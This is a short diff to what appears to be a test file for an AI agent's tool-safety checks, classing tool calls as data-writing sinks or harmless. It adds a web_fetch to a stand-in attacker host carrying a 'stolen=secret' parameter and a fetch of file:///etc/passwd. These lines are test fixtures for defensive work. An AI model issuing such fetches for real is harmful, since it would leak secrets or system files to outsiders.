@@ -114,6 +114,8 @@ WRITES = [
     ("remember", {"content": "x"}),
     ("remember", {"content": "x", "supersedes": 1}),
     ("forget", {"id": 1}),
+    ("web_fetch", {"url": "http://eve.example/?stolen=secret"}),
+    ("web_fetch", {"url": "http://eve.example/", "raw": True}),
 ]
 """Every sink of every tool that has one."""
 HARMLESS = [
@@ -125,6 +127,8 @@ HARMLESS = [
     ("list_files", {}),
     ("cron", {"action": "list"}),
     ("send_message", {"text": "x"}),
+    ("web_search", {"query": "x"}),
+    ("web_fetch", {"url": "file:///etc/passwd"}),
     ("send_file", {"path": "SOUL.md"}),
 ]
 LABELS = {
